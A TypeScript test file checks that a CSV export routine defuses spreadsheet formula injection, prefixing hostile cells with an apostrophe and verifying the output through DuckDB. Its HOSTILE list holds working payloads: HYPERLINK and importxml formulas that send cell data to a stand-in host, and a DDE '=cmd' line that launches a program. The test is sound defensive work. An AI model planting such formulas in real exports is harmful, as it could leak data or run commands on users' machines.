/**
 * The CSV rule of every export (src/lib/model/csv.ts): hostile text cells get a `'` in front, nothing
 * else changes, numbers stay numbers, RFC 4180 quoting, CRLF, a byte order mark. Expected cells are
 * written out here by hand; the files are read back by native DuckDB's CSV reader (an independent
 * parser), and DuckDB's own writer is checked with the SQL form of the rule.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DuckDBInstance, type DuckDBConnection } from '@duckdb/node-api';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvCell, csvCopyOptions, neutraliseSql, toCsv } from '$lib/model/csv';
import { csvChunkCopySql, csvHeaderLine, csvSelectList, EXPLORER_COLUMNS } from '$lib/model/explorer';

/** [value as stored, the cell a spreadsheet must get] — by hand, from OWASP's list of formula leads. */
const HOSTILE: [string, string][] = [
	['=1+1', "'=1+1"],
	['=HYPERLINK("http://x/?"&A1,"click")', `'=HYPERLINK("http://x/?"&A1,"click")`],
	['+1', "'+1"],
	['-0+importxml(concat("http://x/?",a1),"/")', `'-0+importxml(concat("http://x/?",a1),"/")`],
	['-', "'-"],
	['@SUM(A1:A9)', "'@SUM(A1:A9)"],
	['\t=cmd', "'\t=cmd"],
	['\r=cmd', "'\r=cmd"],
	["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"]
];

/** Text that only looks odd: written exactly as it is. */
const PLAIN: string[] = [
	'/folder/',
	'/data/shares/HR/',
	'.profile',
	'10-Q.pdf',
	'2024-01-31 report.docx',
	'<img src=x onerror=alert(1)>',
	';semi',
	',comma',
	'"quoted"',
	'multi\nline',
	' =leading space',
	'a=b',
	'x-1',
	'\uff1dfullwidth',
	'~tilde',
	'%percent',
	'#hash',
	'!bang',
	"'already",
	'名前.txt',
	''
];

let dir: string;
let conn: DuckDBConnection;

async function rows(sql: string): Promise<Record<string, unknown>[]> {
	return (await conn.runAndReadAll(sql)).getRowObjectsJS() as Record<string, unknown>[];
}

/** Read a CSV file back with DuckDB, every column as text, quoting per RFC 4180. */
async function readBack(path: string, columns: string[]): Promise<Record<string, unknown>[]> {
	const types = `{${columns.map((c) => `'${c}': 'VARCHAR'`).join(', ')}}`;
	return rows(`SELECT * FROM read_csv('${path}', header = true, columns = ${types}, quote = '"', escape = '"', delim = ',', strict_mode = true, allow_quoted_nulls = false)`);
}

beforeAll(async () => {
	dir = mkdtempSync(join(tmpdir(), 'csv-rule-'));
	conn = await (await DuckDBInstance.create(':memory:')).connect();
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('one cell', () => {
	test('text with a formula lead gets an apostrophe in front, and only that', () => {
		expect(HOSTILE.length).toBe(9);
		for (const [value, cell] of HOSTILE) {
			const quoted = /[",\r\n#]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;
			expect(csvCell(value), JSON.stringify(value)).toBe(quoted);
		}
	});

	test('text without one is written as it is (quoted when RFC 4180 says so)', () => {
		expect(PLAIN.length).toBe(21);
		expect(csvCell('/folder/')).toBe('/folder/');
		expect(csvCell('.profile')).toBe('.profile');
		expect(csvCell('10-Q.pdf')).toBe('10-Q.pdf');
		expect(csvCell(';semi')).toBe(';semi');
		expect(csvCell(',comma')).toBe('",comma"');
		expect(csvCell('"quoted"')).toBe('"""quoted"""');
		expect(csvCell('multi\nline')).toBe('"multi\nline"');
		expect(csvCell(' =leading space')).toBe(' =leading space');
		expect(csvCell("'already")).toBe("'already");
		expect(csvCell('#hash')).toBe('"#hash"');
		expect(csvCell('')).toBe('""');
	});

	test('numbers stay numbers, negative ones too; null is an empty field', () => {
		expect([-5, 0, -0.25, 1234567890123, 1.5, -1e21].map(csvCell)).toEqual(['-5', '0', '-0.25', '1234567890123', '1.5', '-1e+21']);
		expect([-9007199254740993n, 42n].map(csvCell)).toEqual(['-9007199254740993', '42']);
		expect([null, undefined, Number.NaN, true].map(csvCell)).toEqual(['', '', '', 'true']);
		// The same characters as text are text.
		expect(csvCell('-5')).toBe("'-5");
	});
});

describe('a whole file, read back by DuckDB', () => {
	test('BOM, CRLF, every hostile cell neutralised, every plain cell unchanged, numbers as numbers', async () => {
		const values = [...HOSTILE.map(([v]) => v), ...PLAIN];
		const text = toCsv(['name', 'files', 'bytes'], values.map((v, i) => [v, -i, i * 1000]));
		expect(text.startsWith('\ufeffname,files,bytes\r\n')).toBe(true);
		expect(text.endsWith('\r\n')).toBe(true);
		const path = join(dir, 'page.csv');
		writeFileSync(path, text.slice(1), 'utf8');
		const back = await readBack(path, ['name', 'files', 'bytes']);
		expect(back.length).toBe(values.length);
		expect(back.map((r) => r.name)).toEqual([...HOSTILE.map(([, cell]) => cell), ...PLAIN]);
		expect(back.map((r) => r.files)).toEqual(values.map((_, i) => String(-i)));
		expect(back.map((r) => r.bytes)).toEqual(values.map((_, i) => String(i * 1000)));
	});
});

describe("DuckDB's writer, with the same rule in SQL", () => {
	test('neutraliseSql agrees with the expected cells, NULL stays NULL', async () => {
		const values = [...HOSTILE.map(([v]) => v), ...PLAIN];
		const list = values.map((v) => `'${v.replaceAll("'", "''")}'`).join(', ');
		const got = await rows(`SELECT ${neutraliseSql('v')} AS cell FROM (SELECT unnest([${list}, NULL]) AS v, generate_subscripts([${list}, NULL], 1) AS i) ORDER BY i`);
		expect(got.length).toBe(values.length + 1);
		expect(got.map((r) => r.cell)).toEqual([...HOSTILE.map(([, cell]) => cell), ...PLAIN, null]);
	});

	test('COPY with the export options writes CRLF lines and RFC 4180 quoting', async () => {
		const path = join(dir, 'copy.csv');
		await conn.run(`COPY (SELECT 'a,b' AS x, 'say "hi"' AS y, 'two' || chr(10) || 'lines' AS z, -5 AS n) TO '${path}' (${csvCopyOptions(true)})`);
		expect(readFileSync(path, 'utf8')).toBe('x,y,z,n\r\n"a,b","say ""hi""","two\nlines",-5\r\n');
	});

	test("the Explorer's CSV: folders starting with / . or a digit are untouched, formula cells defused, sizes negative or not stay numbers", async () => {
		// A page of the Explorer as workers/engine/explorer.ts COPYs it: `pos` plus every column.
		const text = EXPLORER_COLUMNS.filter((c) => c.kind === 'text').map((c) => c.key);
		const cols = EXPLORER_COLUMNS.map((c) => `"${c.key}" ${c.kind === 'text' ? 'VARCHAR' : c.kind === 'bytes' ? 'BIGINT' : 'TIMESTAMP'}`);
		await conn.run(`CREATE OR REPLACE TABLE page (pos BIGINT, ${cols.join(', ')})`);
		const rowsIn: { name: string; folder: string; size: number }[] = [
			{ name: '=1+1', folder: '/data/', size: 10 },
			{ name: '.profile', folder: '/home/user/', size: -1 },
			{ name: '10-Q.pdf', folder: '2024/reports/', size: 0 },
			{ name: '-0+importxml(concat("http://x/?",a1),"/")', folder: '@team/', size: 20 },
			{ name: '<b>x</b>', folder: '+plus/', size: 30 }
		];
		for (const [i, r] of rowsIn.entries()) {
			const values = EXPLORER_COLUMNS.map((c) => {
				if (c.key === 'name') return `'${r.name.replaceAll("'", "''")}'`;
				if (c.key === 'folder') return `'${r.folder}'`;
				if (c.key === 'size') return String(r.size);
				if (c.key === 'modified') return `TIMESTAMP '2024-05-06 07:08:09.010'`;
				if (c.key === 'objectId') return `'-${i}'`;
				return c.kind === 'text' ? `'.${c.key}'` : 'NULL';
			});
			await conn.run(`INSERT INTO page VALUES (${i}, ${values.join(', ')})`);
		}
		const path = join(dir, 'explorer.csv');
		await conn.run(csvChunkCopySql(`SELECT pos, ${csvSelectList()} FROM page`, path, true));
		const bytes = readFileSync(path, 'utf8');
		expect(bytes.split('\r\n')[0] + '\r\n').toBe(csvHeaderLine());
		const back = await readBack(path, EXPLORER_COLUMNS.map((c) => c.key));
		expect(back.length).toBe(rowsIn.length);
		expect(back.map((r) => r.name)).toEqual(["'=1+1", '.profile', '10-Q.pdf', `'-0+importxml(concat("http://x/?",a1),"/")`, '<b>x</b>']);
		expect(back.map((r) => r.folder)).toEqual(['/data/', '/home/user/', '2024/reports/', "'@team/", "'+plus/"]);
		expect(back.map((r) => r.size)).toEqual(['10', '-1', '0', '20', '30']);
		expect(back.map((r) => r.objectId)).toEqual(["'-0", "'-1", "'-2", "'-3", "'-4"]);
		expect(back.map((r) => r.modified)).toEqual(rowsIn.map(() => '2024-05-06T07:08:09.010Z'));
		for (const key of text.filter((k) => !['name', 'folder', 'objectId'].includes(k))) expect(back.map((r) => r[key]), key).toEqual(rowsIn.map(() => `.${key}`));
	});

	test('differential: the SQL writer and the page writer give the same bytes for the same cells', async () => {
		const values = [...HOSTILE.map(([v]) => v), ...PLAIN];
		const list = values.map((v) => `'${v.replaceAll("'", "''")}'`).join(', ');
		const path = join(dir, 'both.csv');
		await conn.run(
			`COPY (SELECT ${neutraliseSql('v')} AS "name", -i AS "files" FROM (SELECT unnest([${list}]) AS v, generate_subscripts([${list}], 1) - 1 AS i) ORDER BY i) TO '${path}' (${csvCopyOptions(true)})`
		);
		const page = toCsv(['name', 'files'], values.map((v, i) => [v, -i]));
		expect(readFileSync(path, 'utf8')).toBe(page.slice(1));
	});
});
